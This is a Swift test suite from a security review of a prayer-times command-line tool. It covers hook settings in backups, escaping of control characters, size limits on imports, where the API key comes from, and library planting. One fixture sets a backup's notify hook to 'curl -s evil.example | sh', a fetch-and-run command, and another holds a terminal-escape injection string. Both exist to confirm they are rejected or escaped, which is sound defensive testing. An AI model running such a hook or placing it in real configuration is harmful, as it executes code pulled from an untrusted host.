import Foundation
import PrayCore
import PrayMocks
import PrayServices
import Testing

@testable import PrayCLI

#if canImport(Glibc)
    import Glibc
#endif

/// The security review of issue 20, at the command line: what a backup may set, what reaches the
/// terminal, how large an import may be, where an API key comes from, and which libcurl is loaded.
@Suite struct SecurityReviewTests {
    /// A backup file whose preferences are `preferences` and whose log is empty.
    static func backup(_ preferences: [String: String]) throws -> Data {
        try JSONSerialization.data(withJSONObject: [
            "format": "praykit-backup", "version": 1, "preferences": preferences, "prayerLog": [],
        ])
    }

    /// Every control character of `text` but newline (and, where allowed, tab).
    static func controls(_ text: String, allowing allowed: Set<Unicode.Scalar> = ["\n"]) -> [UInt32] {
        text.unicodeScalars.filter { ($0.value < 0x20 || (0x7F...0x9F).contains($0.value)) && !allowed.contains($0) }
            .map(\.value)
    }

    /// A place name as a hostile file or server could write it: ESC sequences (set the title, clear
    /// the screen), CR, BEL, DEL, C1's CSI and a quote.
    static let hostileName = "Evil\u{1B}]0;pwned\u{07}\r\u{1B}[2JTown\u{7F}\u{9B}31m \"quoted\""

    // MARK: - Item 1: settings that run programs are not taken from a file unasked

    @Test func importKeepsThisMachinesHookAndWarnsAboutTheFilesOne() async throws {
        // Given: a machine with its own hook, and a shared backup that sets another
        let dependency = CLI.dependency(
            preferences: try CLI.preferences([.notifyHook: "notify-send mine", .method: "isna"]))
        let file = try Self.backup(["notify-hook": "curl -s evil.example | sh", "method": "mwl"])
        // When
        let result = await CLI.run(["import", "-"], dependency: dependency, standardInput: file)
        // Then: the rest is imported, the hook stays this machine's, and stderr says what was left
        #expect(result.status == 0, "\(result.stderr)")
        let stored = try dependency.preferences().preferences()
        #expect(stored[.method] == "muslim-world-league")
        #expect(stored[.notifyHook] == "notify-send mine")
        #expect(result.stderr.contains("Warning: the backup sets notify-hook"), "\(result.stderr)")
        #expect(result.stderr.contains("curl -s evil.example | sh") && result.stderr.contains("--trust"))
        #expect(result.stdout.hasPrefix("Imported 1 setting and 0 log entries;"), "\(result.stdout)")
    }

    @Test func importWithTrustTakesTheHookAndSaysSo() async throws {
        let dependency = CLI.dependency(preferences: try CLI.preferences([.notifyHook: "notify-send mine"]))
        let file = try Self.backup(["notify-hook": "paplay adhan.oga"])
        let result = await CLI.run(["import", "--trust", "-"], dependency: dependency, standardInput: file)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try dependency.preferences().preferences()[.notifyHook] == "paplay adhan.oga")
        #expect(result.stderr.contains("Warning: notify-hook taken from the backup"), "\(result.stderr)")
        // A backup without a hook removes none unless trusted.
        let untrusted = await CLI.run(["import", "-"], dependency: dependency, standardInput: try Self.backup([:]))
        #expect(untrusted.status == 0 && untrusted.stderr.isEmpty, "\(untrusted.stderr)")
        #expect(try dependency.preferences().preferences()[.notifyHook] == "paplay adhan.oga")
    }

    @Test func importHelpListsTheMachineLocalSettings() async throws {
        let help = await CLI.run(["import", "--help"])
        #expect(help.stdout.contains("--trust"))
        #expect(help.stdout.contains("notify-hook"))
    }

    // MARK: - Item 4: control characters never reach the terminal

    @Test func aHostilePlaceNameIsEscapedInTablesJSONAndCalendars() async throws {
        // Given: a saved place whose name carries control characters
        let preferences = try CLI.preferences([
            .latitude: "21.4225", .longitude: "39.8262", .timeZone: "Asia/Riyadh", .placeName: Self.hostileName,
        ])
        let dependency = CLI.dependency(preferences: preferences)
        // When: shown as a table, JSON, CSV, a setting and a calendar
        let table = await CLI.run(["times"], dependency: dependency)
        let json = await CLI.run(["times", "--format", "json"], dependency: dependency)
        let csv = await CLI.run(["times", "--format", "csv"], dependency: dependency)
        let setting = await CLI.run(["config", "get", "place-name"], dependency: dependency)
        let calendar = await CLI.run(["calendar", "--days", "1"], dependency: dependency)
        // Then: no control character but newline; the name is still there, escaped
        for result in [table, json, csv, setting] {
            #expect(result.status == 0, "\(result.stderr)")
            #expect(Self.controls(result.stdout).isEmpty, "\(Self.controls(result.stdout)) in \(result.stdout)")
        }
        #expect(table.stdout.contains(#"Evil\x1B]0;pwned\x07\r\x1B[2JTown\x7F\x9B31m "quoted""#), "\(table.stdout)")
        let object = try CLI.json(json.stdout)
        #expect((object["location"] as? [String: Any])?["name"] as? String == Self.hostileName)
        #expect(json.stdout.contains(#"\u007f\u009b31m \"quoted\""#), "\(json.stdout)")
        // The calendar: CRLF line ends, and no other control character (RFC 5545 TEXT)
        #expect(calendar.status == 0, "\(calendar.stderr)")
        let lines = calendar.stdout.replacingOccurrences(of: "\r\n", with: "\n")
        #expect(Self.controls(lines).isEmpty, "\(Self.controls(lines))")
        #expect(lines.contains(#"LOCATION:Evil"#) && lines.contains(#"\n"#))
    }

    @Test func errorsAboutAFileAreEscapedOnStandardError() async throws {
        let file = try Self.backup(["bad\u{1B}[2J\rkey": "x"])
        let result = await CLI.run(["import", "-"], dependency: CLI.dependency(), standardInput: file)
        #expect(result.status == 1)
        #expect(result.stderr.contains(#"unknown setting 'bad\x1B[2J\rkey'"#), "\(result.stderr)")
        #expect(Self.controls(result.stderr).isEmpty)
    }

    // MARK: - Item 5: import and export are bounded

    @Test func aBackupLargerThan64MiBIsRefusedBeforeAnyWrite() async throws {
        // Given: a file one byte over the limit (white space around an empty object: valid JSON apart
        // from its size)
        var file = Data("{\"format\": \"praykit-backup\", \"version\": 1, \"preferences\": {}, \"prayerLog\": []".utf8)
        file.append(Data(repeating: 0x20, count: 64 * 1024 * 1024 - file.count))
        file.append(Data("}".utf8))
        var dependency = CLI.dependency()
        let backup = BackupServiceMock()
        dependency.backupService = backup
        // When
        let result = await CLI.run(["import", "-"], dependency: dependency, standardInput: file)
        // Then
        #expect(result.status == 1)
        #expect(result.stderr.contains("larger than 64 MiB"), "\(result.stderr)")
        #expect(backup.importDataCalls.isEmpty)
    }

    @Test func exportStreamsALongLogInLittleMemory() async throws {
        // Given: a database holding 100,000 log entries (55 years of five prayers a day)
        let folder = try TestFolder("export")
        defer { withExtendedLifetime(folder) {} }
        let path = folder.path("praykit.sqlite")
        let entries = try (0..<100_000).map { index in
            try PrayerLogEntry(
                date: CivilDate(daysSince1970: index / 5), prayer: Prayer.obligatory[index % 5], status: .prayed,
                recordedAt: CLI.now)
        }
        try PrayerLogStoreSQLite(database: SQLiteDatabase(path: path, log: .silent), log: .silent).record(entries)
        // When: exported, its peak memory measured by GNU time
        let time = "/usr/bin/time"
        try #require(FileManager.default.isExecutableFile(atPath: time), "GNU time (apt-get install time)")
        let result = try await Shell.run(
            time, ["-f", "maxrss=%M", PraykitProcess.executable.path, "export"],
            environment: ["PRAYKIT_DATABASE": path])
        // Then: every entry written, in far less memory than the entries would take held whole
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try UserData.decoded(from: Data(result.stdout.utf8)).prayerLog == entries)
        let kilobytes = try #require(result.stderr.firstMatch(of: /maxrss=([0-9]+)/).flatMap { Int($0.output.1) })
        #expect(kilobytes < 64 * 1024, "peak \(kilobytes) KB")
    }

    // MARK: - Item 6: the API key is never on the command line

    @Test func anAPIKeyOnTheCommandLineIsRefusedWithTheWaysToPassIt() async throws {
        let london = ["times", "--lat", "51.5074", "--lon", "-0.1278", "--source", "london"]
        let result = await CLI.run(london + ["--api-key", "SECRET"])
        #expect(result.status == 64)
        #expect(
            result.stderr.contains("PRAYKIT_API_KEY") && result.stderr.contains("--api-key-file"), "\(result.stderr)")
        #expect(!result.stderr.contains("SECRET"))
    }

    @Test func anAPIKeyFileMustBeTheUsersAlone() async throws {
        let folder = try TestFolder("key")
        defer { withExtendedLifetime(folder) {} }
        let file = folder.url.appendingPathComponent("key")
        try Data("SECRET-KEY\n".utf8).write(to: file)
        let london = [
            "times", "--lat", "51.5074", "--lon", "-0.1278", "--source", "london", "--api-key-file", file.path,
        ]
        // (the published timetable's service: the calculation, so that the command completes)
        var dependency = CLI.dependency()
        dependency.remotePrayers = dependency.prayers
        // A file others may read is refused, and says how to fix it
        chmod(file.path, 0o644)
        let open = await CLI.run(london, dependency: dependency)
        #expect(open.status == 1)
        #expect(open.stderr.contains("chmod 600"), "\(open.stderr)")
        // A file of the user's alone gives the key, and wins over the environment
        chmod(file.path, 0o600)
        let private_ = await CLI.run(london, dependency: dependency, environment: ["PRAYKIT_API_KEY": "FROM-ENV"])
        #expect(private_.status == 0, "\(private_.stderr)")
        #expect(private_.configuration?.remoteTimetable?.apiKey == "SECRET-KEY")
        // The environment still works
        let environment = await CLI.run(
            Array(london.dropLast(2)), dependency: dependency,
            environment: ["TZ": "UTC", "PRAYKIT_API_KEY": "FROM-ENV"])
        #expect(environment.configuration?.remoteTimetable?.apiKey == "FROM-ENV")
    }

    // MARK: - Item 7: libraries come from the system's folders, never from beside the binary

    #if canImport(CCurl)
        /// A copy of `praykit` in a fresh folder, with text files planted beside it under the names of
        /// `libraries`.
        static func copyWithPlanted(_ libraries: [String]) async throws -> (folder: TestFolder, binary: URL) {
            let folder = try TestFolder("planted")
            let binary = folder.url.appendingPathComponent("praykit")
            // Copied by cp, not in this process: a file this process holds open for writing would be
            // inherited by a child another test spawns meanwhile, and running the copy would then fail
            // with ETXTBSY ("Text file busy") for as long as that child lives.
            let copied = try await Shell.run("/bin/cp", [PraykitProcess.executable.path, binary.path])
            guard copied.status == 0 else { throw TestFailure("cp failed: \(copied.stderr)") }
            for name in libraries {
                try Data("not a library: planted next to the binary\n".utf8).write(
                    to: folder.url.appendingPathComponent(name))
            }
            return (folder, binary)
        }

        @Test func aLibcurlPlantedBesideTheBinaryIsNotLoaded() async throws {
            // Given: a copy of praykit with a fake libcurl beside it, and a local AlAdhan server
            let (folder, binary) = try await Self.copyWithPlanted(["libcurl.so.4", "libcurl.so"])
            defer { withExtendedLifetime(folder) {} }
            let server = try RemoteSourceTests.makkahServer()
            defer { server.stop() }
            // When: it fetches a published timetable
            let result = try await Shell.run(
                binary.path,
                [
                    "times", "--lat", "21.4225", "--lon", "39.8262", "--tz", "Asia/Riyadh", "--date", "2026-11-10",
                    "--source", "aladhan", "--api-url", server.url().absoluteString, "--format", "json",
                ],
                environment: ["PRAYKIT_DATABASE": folder.path("db/praykit.sqlite")])
            // Then: the system's libcurl did the fetch; the planted file was never opened
            #expect(result.status == 0, "\(result.stderr)")
            #expect(!result.stderr.contains("ELF") && !result.stderr.contains("planted"), "\(result.stderr)")
            #expect(try CLI.json(result.stdout)["source"] as? String == "aladhan")
            #expect(server.requests.count == 1)
        }

        @Test(.needsMicroHTTPD) func aLibmicrohttpdPlantedBesideTheBinaryIsNotLoaded() async throws {
            // Given: a copy of praykit with a fake libmicrohttpd beside it
            let (folder, binary) = try await Self.copyWithPlanted(["libmicrohttpd.so.12", "libmicrohttpd.so"])
            defer { withExtendedLifetime(folder) {} }
            // When: it serves
            let process = try PraykitProcess.Running(
                ["serve", "--port", "0", "--threads", "1"], environment: ["PRAYKIT_DATABASE": folder.path("db.sqlite")],
                executable: binary)
            defer { process.kill() }
            let line = try await process.firstLine()
            process.kill()
            let result = try await process.wait(deadline: 120)
            // Then: the system's libmicrohttpd listens
            #expect(line.hasPrefix("Listening on http://127.0.0.1:"), "\(line) \(result.stderr)")
        }
    #endif
}
